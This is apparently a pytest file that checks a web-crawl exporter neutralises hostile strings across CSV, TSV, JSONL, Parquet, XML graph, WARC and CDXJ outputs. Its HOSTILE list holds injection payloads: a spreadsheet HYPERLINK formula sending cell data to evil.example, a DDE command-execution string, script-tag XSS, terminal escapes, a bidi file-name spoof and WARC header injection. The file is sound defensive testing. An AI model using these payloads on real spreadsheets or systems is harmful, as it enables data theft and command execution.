"""What a crawl may hold, in every export: read back as it was, and harmless to those who only look."""

from __future__ import annotations

import csv
import json
import re
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import networkx as nx
import pytest
from warcio.archiveiterator import ArchiveIterator

from graphlang import printing

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

    Call = Callable[..., Any]

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert(1)</script><!-- ]]>",
    '&lt;b&gt; &#0; " onmouseover="alert(1)',
    "\x00NUL\x00",
    "\x1b[2J\x1b]0;pwned\x07\x9b31m",
    "\u202egnp.exe\u2066\u061c",
    "a\r\nWARC-Type: response\r\n\r\nWARC/1.0",
    "\u2028line\u2029para\x85nel",
    "\ufffe\uffff\U0010ffff",
]
#: What could steer a terminal or turn a line around.
STEERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
FORMULA = tuple("=+-@\t\r\uff1d")


@pytest.fixture
def db(make_collection: Call, written: Any) -> Path:
    """A page for each text, which is its title, its text, and a part of its URL and of its date."""
    pages = [
        written(
            f"http://a{number}.example/{text}",
            "deu",
            title=text,
            text=f"{text} Tag",
            date=f"2012-06-01{text}",
            links=(0,),
        )
        for number, text in enumerate(HOSTILE)
    ]
    linked = [replace(page, links=(0,) if number else (1,)) for number, page in enumerate(pages)]
    path: Path = make_collection(linked)
    return path


def export(graphlang: Call, db: Path, what: str, name: str) -> Path:
    target = db.parent / name
    result = graphlang("export", db, "--what", what, "--all", "-o", target)
    assert result.exit_code == 0, result.stderr
    return target


def join_list(value: object) -> object:
    """What a list of Parquet is in other formats."""
    if not isinstance(value, list):
        return value.replace(", ", ",") if isinstance(value, str) else value
    return ",".join(f"{part:.2f}" if isinstance(part, float) else part for part in value)


@pytest.mark.parametrize("what", ["pages", "sites", "links", "hosts", "domains", "languages", "texts"])
def test_tables_say_the_same_and_hold_nothing_that_acts(graphlang: Call, db: Path, what: str) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    lines = export(graphlang, db, what, "a.jsonl").read_text(encoding="utf-8")
    table = export(graphlang, db, what, "a.tsv").read_text(encoding="utf-8")
    assert not STEERS.search(lines + table)
    head, *rows = (printing.split_tsv(line) for line in table.removesuffix("\n").split("\n"))
    with export(graphlang, db, what, "a.csv").open(encoding="utf-8", newline="") as file:
        cells = list(csv.DictReader(file))
    columns = pq.read_table(export(graphlang, db, what, "a.parquet")).to_pylist()
    expected = [json.loads(line) for line in lines.removesuffix("\n").split("\n")]
    assert len(expected) >= (1 if what == "languages" else len(HOSTILE) - 1)
    for one, row, cell, column in zip(expected, rows, cells, columns, strict=True):
        said = {name: value for name, value in one.items() if isinstance(value, str)}
        assert {name: join_list(column[name]) for name in said} == {
            name: value.replace(", ", ",") for name, value in said.items()
        }
        assert {name: value for name, value in zip(head, row, strict=True) if name in said} == said
        for name, value in said.items():
            assert cell[name] == (f"'{value}" if value.startswith((*FORMULA, "\n")) else value)
            assert not cell[name].startswith(FORMULA)


@pytest.mark.parametrize("name", ["pages.gexf", "pages.graphml"])
def test_graphs_are_sound_xml(graphlang: Call, db: Path, name: str) -> None:
    path = export(graphlang, db, "pages", name)
    graph = nx.read_gexf(path) if name.endswith("gexf") else nx.read_graphml(path)
    labels = [data["label"] for _, data in graph.nodes(data=True)]
    assert len(labels) == len(HOSTILE)
    assert "http://a6.example/<script>alert(1)</script><!-- ]]>" in labels
    assert "http://a8.example/\ufffdNUL\ufffd" in labels  # which XML has no way to write


@pytest.mark.parametrize("what", ["wet", "warc-metadata"])
def test_no_record_begins_within_another(graphlang: Call, db: Path, what: str) -> None:
    with export(graphlang, db, what, "a.warc.gz").open("rb") as file:
        found = [(one.rec_type, one.content_stream().read()) for one in ArchiveIterator(file, check_digests="raise")]
    kind = "conversion" if what == "wet" else "metadata"
    assert [one for one, _ in found] == ["warcinfo", *[kind] * len(HOSTILE)]
    if what == "wet":
        assert found[12][1].decode() == f"{HOSTILE[11]}\n{HOSTILE[11]} Tag"


def test_the_index_has_a_line_for_each_capture(graphlang: Call, db: Path) -> None:
    text = export(graphlang, db, "cdxj", "a.cdxj").read_text(encoding="utf-8")
    assert not STEERS.search(text)
    lines = text.removesuffix("\n").split("\n")
    assert len(lines) == len(HOSTILE)
    for line in lines:
        key, stamp, fields = line.split(" ", 2)
        assert key.startswith("example,a")
        assert (len(stamp), stamp.isdecimal()) == (14, True)
        assert json.loads(fields)["languages"] == "deu"
